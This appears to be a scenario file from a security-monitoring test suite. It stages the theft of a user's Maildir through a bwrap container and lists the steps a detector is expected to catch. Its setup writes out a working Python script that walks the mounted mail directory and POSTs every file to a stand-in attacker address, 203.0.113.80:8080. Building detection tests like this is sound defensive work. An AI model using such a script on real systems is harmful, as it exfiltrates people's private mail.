# In a container the Maildir has another name.
title="A container with the Maildir bound to /data: python inside posts every file"
what="hanna's Maildir is bound read-only as /data in bwrap; python reads /data and posts it by http."
user=hanna daemons="cron sshd"
people="hanna tobi ines marek jule" aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'
setup() {
  own_file /home/hanna/proj/up.py <<'P'
import os, urllib.request
for d, _, fs in os.walk('/data'):
    for f in fs: urllib.request.urlopen(urllib.request.Request('http://203.0.113.80:8080/u', data=open(os.path.join(d, f), 'rb').read()))
P
}
act() {
  letters hanna 8
  ssh_as hanna <<'L'
bwrap --ro-bind /usr /usr --symlink usr/bin /bin --symlink usr/lib /lib --symlink usr/lib64 /lib64 --proc /proc --dev /dev --ro-bind Maildir /data --ro-bind proj /app python3 /app/up.py
L
}
truth() {
  exec_step container 'bwrap .*--ro-bind Maildir /data' 'the Maildir is bound to another name'
  file_step read 'python3.11 openat:read NORMAL /data/new/' 'a message is read there'
  net_step post 'python3.11 203.0.113.80:8080' 'and posted'
}
